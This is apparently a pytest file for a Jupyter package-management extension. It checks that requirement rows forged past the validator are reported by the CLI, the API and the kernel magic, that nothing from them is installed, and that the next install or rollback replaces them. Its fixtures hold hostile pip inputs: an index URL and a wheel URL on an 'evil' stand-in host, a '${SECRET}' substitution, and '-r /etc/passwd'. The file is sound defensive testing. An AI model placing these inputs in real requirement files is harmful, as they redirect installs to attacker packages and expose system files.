"""Saved content that fails validation (issue 22): a row written past bifrost's validator, as a
workspace role's own ``UPDATE`` can, storing ``--index-url http://evil/`` and a line.

Before: ``list`` printed nothing, ``sync`` exited 0 while ``status`` said not in sync, and
``install``/``rollback`` exited 2 until an administrator edited the row. Now every surface
says so in one line, nothing of it is ever installed, and the next install or rollback
replaces it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from bifrost_ext.engine.installer import InstallError
from bifrost_ext.requirements import content_hash
from bifrost_ext.settings import SERVICE_SETTING
from tests.api import call, current_dists, saved_rows
from tests.cli import CLI, cli_env
from tests.kernels import run_cell

#: What the attacker stores: a pip option that would send every resolution to her index.
FORGED = "--index-url http://evil/\nbfapp\n"
#: The reason the validator gives for the first line, which every surface names.
REASON = "installer options are not allowed"


def forge(database_url: str, content: str = FORGED) -> None:
    """Write ``content`` straight into the workspace's row, the version moved on, as a
    workspace role holding UPDATE on its row can."""
    engine = sa.create_engine(database_url.replace("postgresql://", "postgresql+psycopg://"))
    try:
        with engine.begin() as conn:
            conn.execute(
                sa.text(
                    "UPDATE workspace_files SET content = :content, content_hash = :hash,"
                    " version = version + 1"
                ),
                {"content": content, "hash": content_hash(content)},
            )
    finally:
        engine.dispose()


async def get_status(jp_fetch: Any) -> tuple[int, dict[str, Any]]:
    response = await jp_fetch("api", "packages", "status")
    return response.code, json.loads(response.body)


@pytest.fixture
def database_url(sqlite_url: str) -> str:
    """SQLite: the row is forged with the database's own SQL; PostgreSQL roles change who may
    write it, not what a forged row does."""
    return sqlite_url


@pytest.fixture
def redis_url() -> str:
    """No Redis: every read is the database's row (a cache holds what the row held before the
    UPDATE until the next sync repairs it, which is not what these tests are about)."""
    return ""


@pytest.fixture
def cli(database_url: str, redis_url: str, site_dir: Path, wheelhouse: Path, tmp_path: Path) -> CLI:
    """The operator's CLI without Redis, so that each command reads the database's row."""
    return CLI(cli_env(database_url, redis_url, site_dir, wheelhouse, tmp_path), tmp_path)


def test_every_command_says_so_installs_nothing_of_it_and_a_change_replaces_it(
    cli: CLI, database_url: str, site_dir: Path
) -> None:
    cli("install", "bfdemo==1.0")
    forge(database_url)

    out = cli("list", code=6)
    assert REASON in out
    assert "--index-url http://evil/" in out
    assert "the next install or rollback replaces" in out
    assert json.loads(cli("list", "--json", code=6))["saved_error"].startswith(
        "invalid requirement"
    )

    out = cli("status", code=6)
    assert out.splitlines()[-1].startswith("NOT in sync: the saved requirements fail validation")
    status = json.loads(cli("status", "--json", code=6))
    assert REASON in status["saved_error"]
    assert status["in_sync"] is False

    out = cli("sync", code=6)
    assert "not installed" in out
    # Nothing of it was installed: the package directory still holds what it held.
    assert current_dists(site_dir) == {"bfdemo-1.0.dist-info"}

    out = cli("install", "bfdep")
    assert "starts from an empty set" in out
    assert saved_rows(database_url)[0][1] == "bfdep\n"
    assert current_dists(site_dir) == {"bfdep-1.0.dist-info"}
    assert cli("list") == "bfdep\n"

    forge(database_url)
    first = cli.json("history")[-1]
    out = cli("rollback", str(first["id"]))
    assert out.splitlines()[-1].startswith(f"restored revision {first['id']}")
    assert saved_rows(database_url)[0][1] == "bfdemo==1.0\n"
    assert current_dists(site_dir) == {"bfdemo-1.0.dist-info"}
    assert cli("status").splitlines()[-1] == "in sync"


@pytest.mark.usefixtures("jp_serverapp")
async def test_the_api_says_so_a_kernel_start_installs_nothing_and_an_install_replaces_it(
    jp_fetch: Any, jp_serverapp: Any, database_url: str, site_dir: Path
) -> None:
    status, body = await call(jp_fetch, "install", {"packages": ["bfdemo==1.0"]})
    assert (status, body.get("saved_error")) == (200, None)
    forge(database_url)
    service = jp_serverapp.web_app.settings[SERVICE_SETTING]

    status, body = await call(jp_fetch)
    assert status == 200
    assert REASON in body["saved_error"]

    status, body = await get_status(jp_fetch)
    assert status == 200
    assert REASON in body["saved_error"]
    assert body["in_sync"] is False

    with pytest.raises(InstallError, match="fail validation"):
        await service.prepare_kernel(service.python)
    assert current_dists(site_dir) == {"bfdemo-1.0.dist-info"}

    status, body = await call(jp_fetch, "install", {"packages": ["bfdep"]})
    assert status == 200, body
    assert body["requirements"] == ["bfdep"]
    assert "starts from an empty set" in body["warning"]
    assert body["saved_error"] is None
    assert saved_rows(database_url)[0][1] == "bfdep\n"
    status, body = await get_status(jp_fetch)
    assert (body["saved_error"], body["in_sync"]) == (None, True)


@pytest.mark.parametrize(
    "content",
    [
        "bfdemo\nbfdemo==2.0\n",  # one project twice
        "bfapp @ https://evil/bfapp.whl\n",
        "bfdemo===${SECRET}\n",
        "bfdemo\n-r /etc/passwd\n",
    ],
)
def test_each_way_past_the_validator_is_named(cli: CLI, database_url: str, content: str) -> None:
    cli("install", "bfdemo==1.0")
    forge(database_url, content)
    assert "fail validation" in cli("list", code=6)
    assert json.loads(cli("status", "--json", code=6))["saved_error"]


@pytest.mark.usefixtures("jp_serverapp")
async def test_the_magic_says_so_in_one_line_and_fails_its_cell(
    jp_fetch: Any, jp_serverapp: Any, database_url: str
) -> None:
    status, _ = await call(jp_fetch, "install", {"packages": ["bfdemo==1.0"]})
    assert status == 200
    forge(database_url)
    started = await jp_fetch("api", "kernels", method="POST", body=json.dumps({"name": "python3"}))
    kernel = jp_serverapp.kernel_manager.get_kernel(json.loads(started.body)["id"])
    # The kernel started with what it had, and its first output says why.
    first = await run_cell(kernel, "pass")
    assert "this kernel started with an earlier set of the workspace's packages" in first
    assert f"fail validation (invalid requirement '--index-url http://evil/': {REASON}" in first
    for command in ("list", "status"):
        output = await run_cell(kernel, f"%bifrost {command}")
        failing = [line for line in output.splitlines() if line.startswith("✗")]
        assert len(failing) == 1, output
        assert REASON in failing[0]
        assert "`%bifrost install …` or a rollback replaces them" in failing[0]
        assert output.splitlines()[-1] == f"BifrostError: %bifrost {command} failed"
    # The kernel started without any of it: bfapp (the forged line) is not importable.
    assert "ModuleNotFoundError" in await run_cell(kernel, "import bfapp")
